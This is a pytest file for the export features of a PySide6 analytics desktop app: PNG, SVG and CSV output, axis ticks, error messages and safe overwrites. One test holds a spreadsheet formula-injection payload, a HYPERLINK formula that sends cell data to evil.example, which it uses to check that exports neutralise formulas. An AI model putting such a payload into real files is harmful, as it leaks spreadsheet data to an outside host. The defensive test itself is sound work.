"""Every panel with a chart or a table exports it (PNG, SVG) and its numbers (CSV) through the
one export helper; the funnel's axis has round ticks and its table no clipped column."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QImage

from app.core.database import open_database
from app.query import run_query
from app.ui.panels.funnel_chart import nice_ticks
from tests.ui.conftest import wait_idle, wait_panels


def read_csv(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_images(button: Any, tmp_path: Path, index: int, widget: Any) -> None:
    """Image `index` of the button's menu, as PNG (twice the size on screen) and SVG."""
    png, svg = tmp_path / f"{button.stem}-{index}.png", tmp_path / f"{button.stem}-{index}.svg"
    button.export("png", png, index)
    button.export("svg", svg, index)
    image = QImage(str(png))
    assert image.width() >= widget.width() * 2 - 2 and image.height() >= widget.height() * 2 - 2
    # Not a blank page: the picture has more than a handful of colours.
    colours = {image.pixel(x, y) for x in range(0, image.width(), 7) for y in range(0, image.height(), 7)}
    assert len(colours) > 3
    assert svg.read_text().lstrip().startswith("<?xml") and "<svg" in svg.read_text()


@pytest.fixture
def window(make_window: Any, filled_db: Any, qtbot: Any) -> Any:
    url, _engine = filled_db
    win = make_window(url)
    wait_panels(qtbot, win)
    return win


def test_funnels_export_chart_and_the_numbers_of_the_view_shown(window: Any, filled_db: Any, tmp_path: Path,
                                                                 qtbot: Any) -> None:
    _url, engine = filled_db
    panel = window.panels["funnels"]
    wait_idle(qtbot, panel)
    button = panel.export_button
    assert button.kinds() == ["Chart as PNG…", "Chart as SVG…", "Numbers as CSV…"]
    assert_images(button, tmp_path, 0, panel.chart)
    button.export("csv", tmp_path / "steps.csv")
    rows = read_csv(tmp_path / "steps.csv")
    want = run_query(engine, panel.query())
    assert rows[0][:2] == ["Step", "Persons"]
    assert [int(r[1]) for r in rows[1:]] == [s["count"] for s in want["steps"]]

    panel.set_view("trends")
    qtbot.waitUntil(lambda: panel.last_result_spec == panel.query() and not panel.busy, timeout=20_000)
    button.export("csv", tmp_path / "trends.csv")
    rows = read_csv(tmp_path / "trends.csv")
    result = run_query(engine, panel.query())
    assert rows[1][0] == "Entered" and [int(v) for v in rows[1][1:]] == result["entered"]
    assert button.images[0][1]() is panel.trend_chart  # the chart of the view shown


@pytest.mark.parametrize("kind", ["png", "csv"])
def test_an_export_it_cannot_write_is_one_line_in_the_status_bar(window: Any, tmp_path: Path, kind: str,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The menu's slot raised (PNG: 'could not write', CSV: the open's OSError), and nobody was told."""
    from PySide6.QtWidgets import QFileDialog

    a_file = tmp_path / "notes.txt"
    a_file.write_text("mine")
    target = a_file / f"chart.{kind}"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *_args, **_kwargs: (str(target), ""))
    window.panels["segmentation"].export_button._dialog(kind, 0)
    message = window.statusBar().currentMessage()
    assert message.startswith(f"Could not export to {target}: ") and "\n" not in message


def test_funnel_axis_has_round_ticks_and_its_table_no_clipped_column(window: Any, qtbot: Any) -> None:
    assert nice_ticks(1714) == [0, 500, 1000, 1500, 2000]
    assert nice_ticks(45) == [0, 10, 20, 30, 40, 50]
    panel = window.panels["funnels"]
    wait_idle(qtbot, panel)
    panel.chart.grab()  # paints
    ticks = panel.chart.y_ticks
    peak = max(max(c) for c in panel.chart.bar_counts())
    step = ticks[1]
    assert ticks[-1] >= peak and all(t % step == 0 for t in ticks)
    assert str(step).rstrip("0") in ("1", "2", "25", "5")

    panel.set_breakdown("$browser")
    qtbot.waitUntil(lambda: panel.last_result_spec == panel.query() and not panel.busy, timeout=20_000)
    panel.resize(900, 700)
    table = panel.table
    header = table.horizontalHeader()
    for column in range(table.columnCount()):
        assert table.columnWidth(column) >= header.sectionSizeHint(column), column
        assert table.columnWidth(column) >= table.sizeHintForColumn(column), column
    # Every breakdown group is named in the chart's legend, inside the chart.
    legend = panel.chart.legend_layout()
    assert [label for label, _rect in legend] == [s.label for s in panel.chart.series]
    assert all(rect.right() <= panel.chart.width() for _label, rect in legend)


def test_retention_users_and_live_view_export(window: Any, filled_db: Any, tmp_path: Path, qtbot: Any) -> None:
    retention = window.panels["retention"]
    wait_idle(qtbot, retention)
    button = retention.export_button
    assert button.kinds() == ["Heat map as PNG…", "Heat map as SVG…", "Curve as PNG…", "Curve as SVG…",
                              "Numbers as CSV…"]
    assert_images(button, tmp_path, 0, retention.table)
    assert_images(button, tmp_path, 1, retention.curve)

    users = window.panels["users"]
    wait_idle(qtbot, users)
    button = users.export_button
    assert button.kinds() == ["Table as PNG…", "Table as SVG…", "Every matching person as CSV…"]
    assert_images(button, tmp_path, 0, users.table)
    button.export("csv", tmp_path / "persons.csv")
    qtbot.waitUntil(lambda: (tmp_path / "persons.csv").exists(), timeout=20_000)
    assert len(read_csv(tmp_path / "persons.csv")) == 1 + 40

    live = window.panels["live"]
    qtbot.waitUntil(lambda: live.model.rowCount() > 0, timeout=20_000)
    button = live.export_button
    assert button.kinds() == ["Events per minute as PNG…", "Events per minute as SVG…", "Table as PNG…",
                              "Table as SVG…", "Events shown as CSV…"]
    assert_images(button, tmp_path, 0, live.spark)
    assert_images(button, tmp_path, 1, live.table)
    button.export("csv", tmp_path / "live.csv")
    rows = read_csv(tmp_path / "live.csv")
    model = live.model
    assert rows[0] == [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())]
    assert len(rows) == 1 + model.rowCount()
    assert rows[1] == [model.index(0, c).data() for c in range(model.columnCount())]


def test_funnels_on_an_empty_database_say_how_to_get_data_in(make_window: Any, sqlite_url: str, qtbot: Any) -> None:
    open_database(sqlite_url).dispose()
    win = make_window(sqlite_url)
    wait_panels(qtbot, win)
    chart = win.panels["funnels"].chart
    qtbot.waitUntil(lambda: "tracklens collect" in chart.message, timeout=10_000)
    assert "--write-key KEY" in chart.message and "tracklens import" in chart.message
    assert "tracklens demo" in chart.message
    # A saved funnel opened on it, in any view: the same notice, not axes from 0 to 1.
    panel = win.panels["funnels"]
    spec = {**panel.query(), "steps": [{"event": "Signed Up"}, {"event": "Order Completed"}], "view": "trends"}
    panel.set_query(spec)
    panel.refresh()
    qtbot.waitUntil(lambda: panel.last_result_spec == panel.query() and not panel.busy, timeout=20_000)
    trend = panel.trend_chart
    assert trend.showing_message and "tracklens collect" in trend.message_label.text()
    assert "tracklens collect" in panel.chart.message


def test_panel_csv_export_quotes_formulas(tmp_path: Path) -> None:
    """Export → CSV of every panel (write_csv): text a spreadsheet would run as a formula gets a
    leading apostrophe (an event name sent with the public write key); numbers are unchanged."""
    from app.ui.widgets.export import write_csv

    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    path = tmp_path / "panel.csv"
    write_csv(path, ["event", "=count"], [[hostile, 3], ["Page Viewed", -2.5], [None, 0]])
    assert read_csv(path) == [["event", "'=count"], ["'" + hostile, "3"], ["Page Viewed", "-2.5"], ["", "0"]]


def test_a_csv_export_that_cannot_be_written_whole_leaves_the_file_it_would_replace(tmp_path: Path) -> None:
    """Export → CSV over an existing file on a full disk: the file was opened for writing first,
    so it was left cut short; now the old file stays whole and the error is raised (the panel
    shows it in one line)."""
    from app.ui.widgets.export import write_csv
    from tests.support.disk import file_size_limit

    path = tmp_path / "funnel.csv"
    write_csv(path, ["step", "count"], [["Viewed", 10], ["Bought", 2]])
    before = path.read_bytes()
    with file_size_limit(4096), pytest.raises(OSError):
        write_csv(path, ["step", "count"], [["x" * 100, n] for n in range(1000)])
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["funnel.csv"]


def test_an_svg_of_labels_holding_control_characters_is_a_document_xml_readers_accept(
        make_window: Any, sqlite_url: str, tmp_path: Path, qtbot: Any) -> None:
    """Property values may hold control characters (only event names and ids are refused), and
    Qt's SVG writer copied a breakdown's labels as they were: the file was not XML, so no
    browser or editor opened it."""
    import datetime as dt
    import xml.etree.ElementTree as ET

    from app.ingest.writer import EventWriter

    engine = open_database(sqlite_url)
    now = dt.datetime.now(dt.UTC)
    EventWriter(engine, enrich=False).write([
        {"type": "track", "userId": f"u{i}", "event": "Order Completed", "messageId": f"m{i}",
         "timestamp": (now - dt.timedelta(hours=i)).isoformat(), "properties": {"plan": plan}}
        for i, plan in enumerate(["pro\x01max", "free\x1b[31m", "team\x0c", "pro\x01max"])])
    engine.dispose()
    window = make_window(sqlite_url)
    wait_panels(qtbot, window)
    panel = window.panels["segmentation"]
    panel.set_query({**panel.query(), "breakdown": "plan"})
    panel.refresh()
    qtbot.waitUntil(lambda: panel.last_result_spec == panel.query() and not panel.busy, timeout=20_000)
    texts = []
    for index in range(len(panel.export_button.images)):
        svg = tmp_path / f"image-{index}.svg"
        panel.export_button.export("svg", svg, index)
        texts += ["".join(e.itertext()) for e in ET.parse(svg).iter()]  # raised "not well-formed"
    assert any("promax" in text for text in texts)  # the label, less what XML cannot hold


@pytest.mark.parametrize("kind", ["png", "svg"])
def test_an_image_export_that_cannot_be_written_whole_leaves_the_file_it_would_replace(
        window: Any, tmp_path: Path, kind: str) -> None:
    """An image written in place was cut short on a full disk; now the old file stays whole."""
    from tests.support.disk import file_size_limit

    button = window.panels["segmentation"].export_button
    folder = tmp_path / "exports"
    folder.mkdir()
    path = folder / f"chart.{kind}"
    button.export(kind, path, 0)
    before = path.read_bytes()
    with file_size_limit(len(before) // 2), pytest.raises(OSError):
        button.export(kind, path, 0)
    assert path.read_bytes() == before
    assert [p.name for p in folder.iterdir()] == [path.name]
